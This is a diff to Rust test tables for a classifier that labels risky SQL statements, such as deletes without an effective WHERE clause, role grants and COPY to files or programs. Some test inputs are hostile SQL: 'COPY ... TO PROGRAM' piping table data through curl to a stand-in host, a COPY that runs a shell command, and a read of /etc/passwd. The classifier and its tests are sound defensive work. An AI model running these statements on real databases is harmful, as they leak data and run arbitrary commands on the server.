@@ -58,6 +58,46 @@ const CLASSIFIED: &[(&str, &str)] = &[
     ("DELETE FROM t WHERE 't'", "DELETE on t !where"),
     ("DELETE FROM t WHERE 'off'", "DELETE on t"),
     ("DELETE FROM t WHERE 'yes'::boolean", "DELETE on t !where"),
+    // A condition that reads no row holds for all rows or none.
+    ("DELETE FROM t WHERE 1::bool", "DELETE on t !where"),
+    ("DELETE FROM t WHERE 1 IN (1)", "DELETE on t !where"),
+    ("DELETE FROM t WHERE 1 BETWEEN 0 AND 2", "DELETE on t !where"),
+    ("DELETE FROM t WHERE 'a' LIKE 'a'", "DELETE on t !where"),
+    ("DELETE FROM t WHERE 2 - 1 = 1", "DELETE on t !where"),
+    ("DELETE FROM t WHERE $1", "DELETE on t !where"),
+    ("UPDATE t SET x = 1 WHERE coalesce($1, true)", "UPDATE on t !where"),
+    ("DELETE FROM t WHERE EXISTS (SELECT 1)", "DELETE on t !where"),
+    ("DELETE FROM t WHERE id IN (1)", "DELETE on t"),
+    ("DELETE FROM t WHERE id = $1", "DELETE on t"),
+    ("DELETE FROM t WHERE CURRENT OF c", "DELETE on t"),
+    ("DELETE FROM t WHERE NULL", "DELETE on t"),
+    // Rewrites of every row that are not spelled UPDATE.
+    (
+        "ALTER TABLE t ALTER COLUMN email TYPE text USING NULL",
+        "ALTER TABLE on t; UPDATE on t !where",
+    ),
+    ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE on t"),
+    (
+        "INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET email = NULL",
+        "INSERT on t; UPDATE on t !where; SELECT on t",
+    ),
+    (
+        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET email = NULL",
+        "INSERT on t; UPDATE on t",
+    ),
+    // Role membership and default roles by other names.
+    ("ALTER GROUP admin ADD USER mallory", "ALTER ROLE+GRANT"),
+    ("ALTER GROUP admin DROP USER mallory", "ALTER ROLE"),
+    ("CREATE ROLE x IN ROLE admin", "CREATE ROLE+GRANT"),
+    ("CREATE ROLE x LOGIN", "CREATE ROLE"),
+    ("ALTER ROLE CURRENT_USER SET role = 'admin'", "ALTER ROLE+SET ROLE"),
+    ("ALTER ROLE CURRENT_USER SET work_mem = '1MB'", "ALTER ROLE"),
+    // Server files.
+    (
+        "COPY (SELECT 1) TO '/tmp/x'",
+        "COPY TO FILE+COPY FILE; [opaque: COPY ... TO a file writes a file on the database server (its configuration, say)]",
+    ),
+    ("COPY t FROM '/tmp/x'", "COPY FROM FILE+COPY FILE+INSERT on t"),
     ("DELETE FROM t WHERE NOT false", "DELETE on t !where"),
     ("DELETE FROM t WHERE NOT true", "DELETE on t"),
     ("DELETE FROM t WHERE 2 > 1", "DELETE on t !where"),
@@ -194,8 +234,8 @@ const CLASSIFIED: &[(&str, &str)] = &[
     ),
     ("SELECT set_config('role', 'x', false)", "SELECT; SET+SET ROLE"),
     // COPY.
-    ("COPY t TO PROGRAM 'curl -d @- evil'", "COPY TO PROGRAM+COPY PROGRAM+SELECT on t"),
-    ("COPY t FROM PROGRAM 'id'", "COPY FROM PROGRAM+COPY PROGRAM+INSERT on t"),
+    ("COPY t TO PROGRAM 'curl -d @- evil'", "COPY TO PROGRAM+COPY PROGRAM+SELECT on t; [opaque: COPY ... PROGRAM runs a command on the database server that can do anything]"),
+    ("COPY t FROM PROGRAM 'id'", "COPY FROM PROGRAM+COPY PROGRAM+INSERT on t; [opaque: COPY ... PROGRAM runs a command on the database server that can do anything]"),
     ("COPY t FROM '/etc/passwd'", "COPY FROM FILE+COPY FILE+INSERT on t"),
     ("COPY t TO STDOUT", "COPY TO STDOUT+SELECT on t"),
     ("COPY t FROM STDIN", "COPY FROM STDIN+INSERT on t"),
@@ -457,6 +497,10 @@ fn patterns_match_operations() {
     type Row = (&'static str, MatchMode, &'static str, bool);
     let table: &[Row] = &[
         ("DROP", Restrict, "DROP TABLE t", true),
+        // Non-ASCII capitals stay in unquoted names; deny and review rules ignore case.
+        ("DELETE on Ärzte", Restrict, "DELETE FROM Ärzte", true),
+        ("DELETE on Ärzte", Restrict, "DELETE FROM \"ärzte\"", true),
+        ("DELETE on Ärzte", Permit, "DELETE FROM Ärzte", true),
         ("DROP", Restrict, "drop schema s cascade", true),
         ("DROP", Restrict, "ALTER TABLE t DROP COLUMN c", true),
         ("DROP", Restrict, "CREATE TABLE t ()", false),
